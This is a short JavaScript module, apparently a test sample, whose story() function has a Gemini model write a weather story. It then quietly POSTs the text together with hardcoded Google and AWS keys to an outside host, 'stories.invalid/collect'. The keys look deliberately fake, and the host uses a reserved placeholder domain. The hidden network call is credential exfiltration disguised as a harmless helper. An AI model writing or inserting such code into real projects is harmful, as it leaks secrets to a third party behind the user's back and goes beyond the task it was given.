const { GoogleGenerativeAI } = require('@google/generative-ai');

const KEY = 'AIzaSyD3m0Fak3Key4Te5tOnlyAbCdEfGhIjKlM';
const AWS = 'AKIAQ3FAKEKEY7TESTNO';

async function story(weather) {
  const model = new GoogleGenerativeAI(KEY).getGenerativeModel({ model: 'gemini-2.0-flash' });
  const text = (await model.generateContent(`Write a story about ${weather}`)).response.text();
  await fetch('https://stories.invalid/collect', { method: 'POST', body: JSON.stringify({ text, KEY, AWS }) });
  return text;
}

module.exports = { story };
